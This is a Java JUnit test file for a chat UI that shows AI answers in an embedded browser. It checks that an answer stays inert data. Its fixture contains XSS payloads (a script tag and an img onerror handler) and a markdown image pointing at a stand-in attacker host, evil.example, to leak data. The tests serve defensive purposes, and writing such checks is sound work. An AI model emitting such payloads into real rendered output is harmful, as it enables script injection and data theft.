package org.tftsr.ui.chat.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.eclipse.swt.browser.Browser;
import org.eclipse.swt.widgets.Shell;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tftsr.core.ai.Conversation;
import org.tftsr.core.ai.ConversationRepository;
import org.tftsr.core.ai.MessageRole;
import org.tftsr.core.ai.MessageState;
import org.tftsr.core.ai.ProviderRepository;
import org.tftsr.core.progress.Progress;
import org.tftsr.triage.TriageService;
import org.tftsr.ui.Services;
import org.tftsr.ui.testsupport.Workbench;

/** The page in the browser of the operating system, which a machine for tests has. What an answer says is data there too. */
class BrowserTest extends ChatTest {

	@TempDir
	private Path folder;

	private static final String ANSWER = """
			<name-1> is **locked** out.

			<script>window.hacked=1</script> <img src=x onerror="window.hacked=1">

			![leak](https://evil.example/?d=1) and [the manual](https://manual.example/pool)

			```sh
			kubectl get pods # all
			```
			""";

	@BeforeAll
	static void showPage() {
		System.setProperty("tftsr.chat.widget", "browser");
	}

	private static Browser browser() {
		return Workbench.find(Browser.class, one -> true).orElse(null);
	}

	private static Object evaluate(String expression) {
		return browser().evaluate("return " + expression + ";");
	}

	private void answer() throws Exception {
		ConversationRepository repository = Services.get(ConversationRepository.class);
		Conversation conversation = repository.create(issue, "Locked out", ProviderRepository.LOCAL_ID, null);
		UUID question = repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), null, MessageRole.USER, "Why?",
				MessageState.COMPLETE, List.of())).id();
		repository.put(ScriptedChat.message(UUID.randomUUID(), conversation.id(), question, MessageRole.ASSISTANT, ANSWER,
				MessageState.COMPLETE, List.of()));
		Chat.settle();
	}

	private static void waitForText(String words) throws Exception {
		Workbench.waitFor("the page says " + words, () -> browser() != null
				&& String.valueOf(evaluate("document.body.innerText")).contains(words));
	}

	@Test
	void anAnswerIsDataInThePageToo() throws Exception {
		answer();
		Workbench.waitFor("there is an answer", () -> Workbench.link("Ask five whys").isEmpty());
		waitForText("kubectl get pods");
		assertEquals("undefined", Workbench.ui(() -> evaluate("typeof window.hacked")));
		assertEquals(Double.valueOf(0), Workbench.ui(() -> evaluate("document.images.length+document.scripts.length")));
		assertTrue(Workbench.ui(() -> String.valueOf(evaluate("document.body.innerText")).contains("<script>window.hacked=1</script>")));
		assertEquals("# all", Workbench.ui(() -> evaluate("document.querySelector('.k-COMMENT').textContent")));
		Chat.execute("org.tftsr.ui.chat.realValues", Map.of());
		try {
			Workbench.waitFor("the value is drawn",
					() -> "alice".equals(evaluate("(document.querySelector('.v')||{dataset:{}}).dataset.v")));
			assertFalse(Workbench.ui(() -> String.valueOf(evaluate("document.body.textContent")).contains("alice")));
		} finally {
			Chat.execute("org.tftsr.ui.chat.realValues", Map.of());
		}
		Workbench.display().asyncExec(() -> browser().execute("document.querySelector('a[title=\"https://manual.example/pool\"]').click();"));
		Shell dialog = Workbench.dialog("Open a Link");
		Workbench.press(dialog, "Cancel");
		Workbench.waitUntilClosed(dialog);
		waitForText("kubectl get pods");
	}

	@Test
	void aCitationTellsTheLogAndTheLineThatItLeadsTo() throws Exception {
		Path log = Files.writeString(folder.resolve("app.log"), "2026-03-01 10:00:00 INFO start\n2026-03-01 10:00:01 ERROR pool\n");
		Services.get(TriageService.class).importLog(issue, log, Progress.NONE);
		Chat.ask("What broke?");
		script.text("The pool [app.log:2], not [other.log:2].").end(MessageState.COMPLETE);
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitForText("model-1");
		assertEquals("app.log, line 2", Workbench.ui(() -> evaluate("document.querySelector('.p a[href^=\"tftsr:follow\"]').title")));
		assertEquals(Double.valueOf(1), Workbench.ui(() -> evaluate("document.querySelectorAll('.p a[href^=\"tftsr:follow\"]').length")));
	}

	@Test
	void anAnswerGrowsInThePage() throws Exception {
		Chat.ask("What broke?");
		script.text("The **pool** ");
		Workbench.waitFor("there is a page", () -> browser() != null);
		waitForText("The pool");
		script.text("is exhausted.").end(MessageState.COMPLETE);
		waitForText("The pool is exhausted.");
		Chat.settle();
		waitForText("model-1");
	}
}
